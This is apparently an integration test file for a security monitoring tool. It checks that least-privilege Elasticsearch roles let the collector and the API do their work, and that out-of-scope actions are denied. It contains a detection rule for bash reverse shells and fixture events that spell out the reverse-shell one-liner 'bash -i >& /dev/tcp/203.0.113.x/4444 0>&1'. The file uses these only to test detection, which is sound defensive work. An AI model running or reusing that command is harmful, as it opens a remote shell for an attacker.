"""The least-privilege roles (deploy/elasticsearch/roles.json) suffice: the collector's sink and store run
as ``canhgac-collector``, the API's store as ``canhgac-api``, each doing all its kinds of writes and reads."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from elasticsearch import AuthorizationException

from collector.alerts import alert_for_match
from collector.detection.engine import DetectionEngine
from collector.incidents.agents import AgentInventory
from collector.incidents.service import IncidentService
from collector.sinks.base import Document
from collector.sinks.elasticsearch import ElasticsearchSink
from collector.store import AlertFilter, IncidentFilter
from collector.store.elastic import ElasticStore
from collector.store.naming import IndexNames
from tests.integration.es_users import client_as
from tests.integration.test_api_support import (
    drop_prefix,
    heartbeat,
    issue_tokens,
    make_alert,
    unique_prefix,
)
from tests.support.events import process_exec

pytestmark = [
    pytest.mark.integration,
    # A privilege Elasticsearch deprecates (e.g. mapping updates through create_doc) fails the test.
    pytest.mark.filterwarnings("error::elasticsearch.ElasticsearchWarning"),
]
PIPELINE = Path(__file__).resolve().parents[2] / "rules" / "pipelines" / "linux-ecs.yml"

RULE = """
title: Reverse shell through bash
id: 2b0c8a8e-5d7f-4f43-9d0e-1f6a3c7b9e21
status: experimental
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: /dev/tcp/
    condition: selection
level: high
"""


async def test_the_collector_role_suffices_for_the_sink_and_the_pipeline_store(
    stack: Any, tmp_path: Path
) -> None:
    prefix = unique_prefix()
    admin = stack.es.client()
    client = client_as(stack, "collector", prefix)
    try:
        sink = ElasticsearchSink(client, prefix)
        store = ElasticStore(client, IndexNames(prefix))
        await sink.start()  # index templates
        await store.setup()  # store templates, incidents/agents/tokens indices
        assert await store.ping()

        (tmp_path / "rule.yml").write_text(RULE)
        engine = DetectionEngine.from_paths([tmp_path], PIPELINE)
        now = datetime.now(UTC)
        events = [process_exec("/bin/bash", f"bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1") for n in (1, 2)]
        old = process_exec("/usr/bin/true", "true")  # last year's event, for retention
        old["@timestamp"] = (now - timedelta(days=400)).isoformat()
        documents = [
            Document("events", event["event"]["id"], datetime.fromisoformat(event["@timestamp"]), event)
            for event in [*events, old]
        ]
        alerts = [alert_for_match(match, now) for event in events for match in engine.match(event)]
        assert len(alerts) == 2
        report = await sink.write(documents + alerts)
        assert report.created == 5
        assert report.rejected == {}
        replay = await sink.write(alerts)  # a replay reads 409 per document, not 403
        assert replay.already_present == 2

        incidents = IncidentService(store)
        await incidents.on_alerts([alert.body for alert in alerts])  # incidents, audit, alerts linked
        inventory = AgentInventory(store, incidents)
        await inventory.on_heartbeats([heartbeat("agent-lp-1", now)])  # agents index

        expired = await sink.delete_expired("events", timedelta(days=90), now)  # retention
        assert expired == [f"{prefix}events-{old['@timestamp'][:7].replace('-', '.')}"]
        six_years_ago = now - timedelta(days=6 * 365)
        await store.append_audit(
            {"@timestamp": six_years_ago.isoformat(), "event": {"id": "audit-lp-old", "action": "old"}}
        )
        expired = await sink.delete_expired("audit", timedelta(days=1825), now)
        assert expired == [store.names.audit_index(six_years_ago)]

        await admin.indices.refresh(index=f"{prefix}*")
        found = await admin.search(index=f"{prefix}incidents", size=10)
        assert found["hits"]["total"]["value"] == 1
        assert (await admin.count(index=f"{prefix}events-*"))["count"] == 2
        assert (await admin.count(index=f"{prefix}agents"))["count"] == 1

        # ... and nothing beyond: the API's token records stay out of its reach.
        with pytest.raises(AuthorizationException):
            await client.search(index=f"{prefix}tokens")
    finally:
        await client.close()
        await drop_prefix(admin, prefix)
        await admin.close()


async def test_the_api_role_suffices_for_the_api_store(stack: Any) -> None:
    prefix = unique_prefix()
    admin = stack.es.client()
    client = client_as(stack, "api", prefix)
    try:
        # The collector's part, as the collector user: an alert and its incident.
        collector = ElasticStore(client_as(stack, "collector", prefix), IndexNames(prefix), "wait_for")
        await collector.setup()
        alert = make_alert("agency-a")
        await collector.create_alert(alert)
        await IncidentService(collector).on_alerts([alert])
        await collector.close()

        store = ElasticStore(client, IndexNames(prefix), refresh="wait_for")
        await store.setup()  # the API installs the same templates at start
        tokens = await issue_tokens(store)  # tokens and their audit entries
        assert set(tokens) >= {"admin", "revoked"}
        assert len(await store.list_tokens(100)) == len(tokens)

        alerts = await store.search_alerts(AlertFilter(), 10)
        assert alerts.total == 1
        current = await store.get_alert(alerts.items[0].id)
        assert current is not None
        acknowledged = {**current.source, "canhgac": {**current.source["canhgac"], "acknowledged": True}}
        await store.replace_alert(current, acknowledged)  # acknowledging an alert

        incidents = await store.search_incidents(IncidentFilter(), 10)
        assert incidents.total == 1
        incident = incidents.items[0]
        await store.replace_incident(incident, {**incident.source, "status": "investigating"})
        await store.append_audit(
            {
                "@timestamp": datetime.now(UTC).isoformat(),
                "event": {"id": f"audit-{prefix}", "action": "incident-status"},
            }
        )
        updated = await store.get_incident(incident.id)
        assert updated is not None
        assert updated.source["status"] == "investigating"
        await store.put_agent(None, {"agent": {"id": "agent-api-1"}, "organization": {"id": "agency-a"}})

        # It reads events but never writes them, and deletes no index.
        with pytest.raises(AuthorizationException):
            await client.index(index=f"{prefix}events-2026.01", document={"event": {"id": "x"}})
        with pytest.raises(AuthorizationException):
            await client.indices.delete(index=f"{prefix}incidents")
    finally:
        await client.close()
        await drop_prefix(admin, prefix)
        await admin.close()
